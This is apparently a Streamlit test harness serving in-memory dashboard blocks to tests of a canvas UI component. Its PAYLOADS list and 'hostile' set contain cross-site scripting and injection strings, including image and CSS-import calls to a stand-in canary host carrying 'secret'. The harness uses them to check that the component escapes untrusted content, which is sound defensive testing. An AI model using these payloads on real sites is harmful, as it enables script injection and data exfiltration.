"""A small Streamlit script with a page of blocks in memory: what the tests of the canvas component talk to.

`?world=<name>&kind=<kind>` opens a page; tabs that name the same world see the same blocks.
"""

from __future__ import annotations

import copy
import json
import sys
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

import streamlit as st

from ionflux_core.errors import Conflict, Invalid
from ionflux_ui.canvas_board import Did, canvas_board

PLACES = ("x", "y", "width", "height")
KINDS = [
    ("text", "Text", "Words in Markdown", "notes", 6, 3),
    ("agent_snippet", "Agent", "An agent and its result", "smart_toy", 6, 6),
    ("table_view", "Table", "Rows and columns", "table", 6, 5),
    ("kanban_board", "Board", "Cards in columns", "view_kanban", 12, 6),
    ("chart", "Chart", "Figures as a picture", "bar_chart", 6, 6),
    ("kpi_tile", "Figure", "One figure and its change", "speed", 3, 3),
    ("sql", "SQL", "A question to the figures", "database", 6, 6),
    ("image", "Image", "A picture", "image", 4, 5),
    ("video", "Video", "A film", "movie", 4, 5),
    ("embed_panel", "Embed", "Another site in a frame", "web", 6, 6),
    ("json_display", "JSON", "A value as a tree", "data_object", 4, 4),
    ("prompt", "Prompt", "A prompt of the library", "chat", 6, 6),
    ("approval", "Approval", "A question to a person", "front_hand", 6, 5),
    ("button", "Button", "Starts an agent", "smart_button", 3, 2),
]


def line(
    type: str, name: str, x: int, y: int, width: int, height: int, view: dict[str, Any], **more: Any
) -> dict[str, Any]:
    icon = next(kind[3] for kind in KINDS if kind[0] == type)
    computes = type in ("agent_snippet", "chart", "sql", "prompt", "button")
    known = {"title": "", "stale": False, "busy": False, "status": None, "age": None, "error": None}
    here = {"id": name, "name": name, "type": type, "icon": icon, "revision": 1, "computes": computes, "x": x, "y": y}
    return {**known, **here, "width": width, "height": height, "view": {"references": [], **view}, **more}


def text(name: str, x: int, y: int, width: int, height: int, words: str, title: str = "") -> dict[str, Any]:
    return line("text", name, x, y, width, height, text_view({"title_text": title, "markdown_text": words}))


def text_view(content: dict[str, Any]) -> dict[str, Any]:
    return {"text": content["markdown_text"], "cut": False, "content": content, "references": []}


def table_view(content: dict[str, Any]) -> dict[str, Any]:
    table = content["json_data_to_display"]
    return {**table, "total": len(table["rows"]), "cut": False, "editable": True, "content": content, "references": []}


def board_view(content: dict[str, Any]) -> dict[str, Any]:
    columns = content["json_data_to_display"]["columns"]
    cards = [card for column in columns for card in column["cards"]]
    done = sum(bool(card.get("done")) for card in cards)
    return {
        "columns": columns,
        "cards": len(cards),
        "done": done,
        "cut": False,
        "editable": True,
        "content": content,
        "references": [],
    }


VIEWS = {"text": text_view, "table_view": table_view, "kanban_board": board_view}
AGENT = {
    "id": "i1",
    "name": "Sales Sentinel",
    "epithet": "Watches over every order",
    "slug": "sales_sentinel",
    "status": "active",
}
GOAL = """Reach **12,000 orders** in the last quarter with the *autumn* line.

- [x] Brief agreed
- [ ] Creators chosen
- [ ] Spots approved

| channel | share |
|---|---:|
| shop | 62 % |
| market | 38 % |
"""


def demo() -> list[dict[str, Any]]:
    table = {
        "columns": ["Creator", "Reach", "Fee"],
        "rows": [["Mara", 120000, 900], ["Jo", 8000, 120.5], ["Äsa", 45000, 400]],
    }
    columns = [
        {
            "title": "To do",
            "cards": [
                {"title": "Write the brief", "text": "One page", "done": False},
                {"title": "Ask Mara", "text": "", "done": False},
            ],
        },
        {"title": "Doing", "cards": [{"title": "Cut the spot", "text": "", "done": False}]},
        {"title": "Done", "cards": [{"title": "Choose colours", "text": "", "done": True}]},
    ]
    days = [f"2026-11-{day:02}" for day in range(1, 15)]
    values = [40, 42, 39, 47, 51, 49, 58, 55, 61, 66, 64, 70, 73, 79]
    chart = {
        "state": "ready",
        "note": "",
        "kind": "columns",
        "labels": [f"{day} Nov" for day in range(1, 15)],
        "full": days,
        "unit": "orders",
        "series": [
            {"key": "a", "name": "Orders", "values": values, "texts": [f"{value} orders" for value in values]},
            {
                "key": "b",
                "name": "Returns",
                "values": [value // 9 for value in values],
                "texts": [f"{value // 9} orders" for value in values],
            },
        ],
        "range": [0, 100],
        "ticks": [[0, "0"], [50, "50"], [100, "100"]],
        "source": "Orders by day",
    }
    run = {
        "id": "r1",
        "status": "success",
        "word": "Success",
        "tone": "green",
        "created_at": days[0],
        "finished_at": days[0],
        "preview": "79 orders",
        "trigger": "manual",
    }
    inputs = [
        {
            "key": "days",
            "label": "Days",
            "type": "integer",
            "description": "How far back",
            "required": True,
            "default": 7,
            "accepted_values": None,
            "value": None,
        },
        {
            "key": "tone",
            "label": "Tone",
            "type": "string",
            "description": "",
            "required": False,
            "default": "calm",
            "accepted_values": ["calm", "urgent"],
            "value": None,
        },
    ]
    output = {
        "kind": "markdown",
        "text": "Orders rose by **12 %** against last week.\n\n1. Autumn coat\n2. Scarf",
        "cut": True,
    }
    agent = {
        "state": "ready",
        "note": "",
        "agent": AGENT,
        "inputs": inputs,
        "key": None,
        "output": output,
        "run": run,
        "question": None,
        "offers": [],
        "keys": [
            {"key": "report", "type": "markdown", "description": "The report"},
            {"key": "orders", "type": "number", "description": ""},
        ],
        "links": {
            "run": {"page": "runs", "parameters": {"run": "r1"}},
            "configure": {"page": "agents", "parameters": {"agent": "i1"}},
            "create": {"page": "agents", "parameters": {}},
        },
        "content": {
            "title_text": "",
            "agent_configuration_id": "i1",
            "agent_last_run_output_key_ref": None,
            "inputs": {},
        },
    }
    now = "2026-11-21T10:00:00+00:00"
    green = {"word": "Success", "tone": "green"}
    question = {
        "id": "q1",
        "title": "Send the offer to 120 customers?",
        "body": "It goes out **today**.",
        "urgency": "normal",
        "agent": "Email Wizard",
        "status": "pending",
        "word": "Open",
        "tone": "orange",
        "created_at": now,
        "expires_at": None,
        "decided_by": None,
        "comment": None,
        "decided_at": None,
        "run_id": "r1",
        "fields": [{"key": "Subject", "text": "Autumn is here"}],
    }
    sql = {
        "query": "SELECT status, count(*) AS runs FROM runs GROUP BY 1",
        "columns": [{"name": "status", "type": "VARCHAR"}, {"name": "runs", "type": "BIGINT"}],
        "rows": [["success", 1204], ["error", 12]],
        "total": 2,
        "truncated": False,
        "cut": False,
        "seconds": 0.012,
        "tables": [{"name": "runs", "columns": [{"name": "id", "type": "VARCHAR"}]}],
        "content": {"title_text": "", "query": "SELECT status, count(*) AS runs FROM runs GROUP BY 1"},
    }
    prompt = {
        "state": "ready",
        "note": "",
        "prompt": {"id": "p1", "name": "Product line", "version": 3},
        "problem": None,
        "answer": None,
        "run": None,
        "offers": [],
        "text": "Write a line about coats.",
        "variables": [
            {
                "name": "product",
                "type": "text",
                "description": "What it is about",
                "required": True,
                "default": None,
                "value": "coats",
            }
        ],
        "content": {"title_text": "", "prompt_id": "p1", "values": {"product": "coats"}, "model": None},
    }
    kpi = {
        "state": "ready",
        "note": "",
        "label": "Orders",
        "unit": "runs",
        "value": 79,
        "text": "79",
        "change": "+12 %",
        "tone": "good",
        "direction": "up",
        "days": 14,
        "since_text": "last 14 days",
        "agent": "Sales Sentinel",
        "help": "Orders counted by day",
        "spark": {"labels": days, "values": values},
        "content": {},
    }
    kpi_bad = {**kpi, "label": "Return rate", "text": "8.9 %", "change": "-0.4 points", "tone": "bad"}
    value = {
        "order": {
            "id": 1204,
            "lines": [{"sku": "coat", "count": 2}, {"sku": "scarf", "count": 1}],
            "paid": True,
            "note": None,
        }
    }
    return [
        text("goal", 0, 0, 6, 6, GOAL, "Goal"),
        line("kpi_tile", "orders", 6, 0, 3, 3, kpi, title="Orders"),
        line("kpi_tile", "returns", 9, 0, 3, 3, kpi_bad, title="Return rate"),
        line(
            "button",
            "start",
            6,
            3,
            3,
            3,
            {
                "state": "ready",
                "note": "",
                "label": "Start the day",
                "agent": AGENT,
                "run": run,
                "offers": [],
                "content": {},
            },
            title="Start",
            status=green,
        ),
        line(
            "json_display",
            "order",
            9,
            3,
            3,
            3,
            {"value": value, "text": json.dumps(value), "cut": False, "content": {}},
            title="Newest order",
        ),
        line("agent_snippet", "sentinel", 0, 6, 6, 8, agent, title="Sales Sentinel", status=green, age=now, stale=True),
        line("chart", "by_day", 6, 6, 6, 6, {**chart, "content": {}}, title="Orders by day"),
        line(
            "table_view",
            "creators",
            0,
            14,
            6,
            5,
            table_view({"title_text": "", "json_data_to_display": table}),
            title="Creators",
        ),
        line(
            "kanban_board",
            "plan",
            6,
            12,
            6,
            7,
            board_view({"title_text": "", "json_data_to_display": {"columns": columns}}),
            title="Plan",
        ),
        line("sql", "ask", 0, 19, 6, 5, sql, title="Runs by status", age=now),
        line("prompt", "line", 6, 19, 6, 5, prompt, title="Product line"),
        line(
            "approval",
            "decide",
            0,
            24,
            6,
            6,
            {
                "state": "open",
                "note": "",
                "question": question,
                "waiting": 2,
                "links": {"run": None, "approvals": {"page": "approvals", "parameters": {}}},
                "content": {},
            },
            title="Approval",
        ),
        line(
            "image",
            "picture",
            6,
            24,
            3,
            5,
            {
                "state": "ready",
                "note": "",
                "address": "app/static/icon.png",
                "alt": "Our mark",
                "caption": "Our mark",
                "host": None,
                "content": {},
            },
            title="Picture",
        ),
        line(
            "image",
            "broken",
            9,
            24,
            3,
            5,
            {
                "state": "ready",
                "note": "",
                "address": "data:image/png;base64,AAAA",
                "alt": "",
                "caption": "",
                "host": "pictures.example",
                "content": {},
            },
            title="Broken",
        ),
        line(
            "embed_panel",
            "site",
            0,
            30,
            6,
            4,
            {
                "state": "refused",
                "note": "maps.example is not among the allowed sources.",
                "address": None,
                "host": "maps.example",
                "content": {},
            },
            title="Map",
        ),
        line(
            "video",
            "film",
            6,
            30,
            6,
            4,
            {"state": "unset", "note": "", "address": None, "alt": "", "caption": "", "host": None, "content": {}},
            title="Film",
            error={"message": "The film could not be read.", "hint": "Choose another file.", "run": "r9"},
        ),
    ]


PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://canary.example/a?q=secret)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '"><img src=https://canary.example/b>',
    "<a href='https://canary.example/c'>x</a>",
    "javascript:alert(1)",
    "<style>@import 'https://canary.example/d'</style>",
    "{{ 7*7 }}",
    "data:text/html,<script>alert(1)</script>",
]


def hostile() -> list[dict[str, Any]]:
    """The demo with payloads in every text of every block."""
    poison = "\n\n".join(PAYLOADS)

    def poisoned(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {name: poisoned(each, name) for name, each in value.items()}
        if isinstance(value, list):
            return [poisoned(each, key) for each in value]
        keep = key in ("id", "name", "type", "kind", "icon", "state", "address", "tone")
        return value if keep or not isinstance(value, str) else poison

    lines = poisoned(demo())
    for number, each in enumerate(lines):
        each["error"] = {"message": poison, "hint": poison, "run": None}
        each["view"]["output"] = {"kind": ("markdown", "text", "json")[number % 3], "text": poison, "cut": True}
        each["view"]["answer"] = {"kind": "link", "url": PAYLOADS[number % len(PAYLOADS)], "text": poison}
    return list(lines)


def many() -> list[dict[str, Any]]:
    """Thirty blocks of many kinds."""
    blocks = demo() + demo()
    for number, each in enumerate(blocks):
        each["id"] = each["name"] = f"{each['name']}_{number}"
        each["y"] += 34 * (number >= len(demo()))
    return blocks[:30]


SETS = {"demo": demo, "hostile": hostile, "many": many, "empty": list, "readonly": demo}


@st.cache_resource
def world(name: str, kind: str) -> dict[str, Any]:
    """The blocks of one test, shared by its tabs."""
    return {"blocks": SETS[kind](), "log": [], "gone": {}, "count": 0}


def act(did: Did) -> None:
    """Do it as the services would."""
    here["log"].append({"action": did.action, "block": did.block, **did.detail})
    blocks = here["blocks"]
    block = next((each for each in blocks if each["id"] == did.block), None)
    if did.action == "place":
        for each in blocks:
            each.update(
                {name: value for name, value in did.detail["places"].get(each["id"], {}).items() if name in PLACES}
            )
    elif did.action == "add":
        add(str(did.detail["type"]), did.detail)
    elif did.action == "undo":
        blocks.append(here["gone"].pop(did.block))
    elif block is None:
        return
    elif did.action == "remove":
        blocks.remove(block)
        here["gone"][did.block] = block
    elif did.action == "save":
        save(block, did.detail)
    elif did.action == "rename":
        block["name"] = did.detail["name"]
    elif did.action == "duplicate":
        blocks.append({**copy.deepcopy(block), "id": f"{block['id']}_2", "name": f"{block['name']}_2", "y": 200})
    elif did.action == "run":
        block["busy"], block["status"] = True, {"word": "Running", "tone": "orange"}


def add(type: str, detail: Any) -> None:
    here["count"] += 1
    name = f"{type}_{here['count']}"
    kind = next(each for each in KINDS if each[0] == type)
    place = detail.get("place") or {"x": 0, "y": 300, "width": kind[4], "height": kind[5]}
    content = {
        "title_text": "",
        "markdown_text": "",
        "json_data_to_display": {"columns": ["A"], "rows": []},
        **(detail.get("content") or {}),
    }
    if type == "kanban_board":
        content["json_data_to_display"] = {"columns": []}
    view = VIEWS.get(
        type,
        lambda kept: {
            "state": "unset",
            "note": "",
            "content": kept,
            "agent": None,
            "query": "",
            "columns": [],
            "rows": [],
            "total": 0,
        },
    )(content)
    here["blocks"].append(line(type, name, *(place[each] for each in PLACES), view))


def save(block: dict[str, Any], detail: Any) -> None:
    if detail["revision"] != block["revision"]:
        raise Conflict("Changed elsewhere.", code="edited_elsewhere")
    if "forbidden" in json.dumps(detail["content"]):
        raise Invalid("The text holds a forbidden word.", hint="Take it out.")
    block["revision"] += 1
    block["view"] = {**block["view"], **VIEWS.get(block["type"], lambda kept: {"content": kept})(detail["content"])}


def load() -> dict[str, Any]:
    kinds = [
        dict(zip(("type", "title", "hint", "icon", "width", "height"), kind, strict=True), computes=False)
        for kind in KINDS
    ]
    shelf = (
        {"kind": "instance", "id": "i1", "name": "Sales Sentinel", "epithet": "Watches", "status": "active"},
        {"kind": "definition", "id": "email_wizard", "name": "Email Wizard", "epithet": "Writes mails", "status": ""},
    )
    page = {"id": f"page-{kind}", "title": "Page", "read_only": kind == "readonly"}
    return {
        "workspace": "w",
        "page": page,
        "blocks": copy.deepcopy(here["blocks"]),
        "kinds": kinds,
        "shelf": shelf,
        "topics": (),
    }


st.set_page_config(layout="wide")
kind = st.query_params.get("kind", "demo")
here = world(st.query_params.get("world", "one"), kind)


@st.fragment
def page() -> None:
    time.sleep(float(st.query_params.get("slow", "0")))
    opened = canvas_board(load, key=f"canvas-{kind}", act=act)
    here["log"] += [{"action": each.action, "block": each.block, **each.detail} for each in opened]
    st.button("Again", key="again")
    st.code(json.dumps(here["log"][-6:]), language=None)


page()
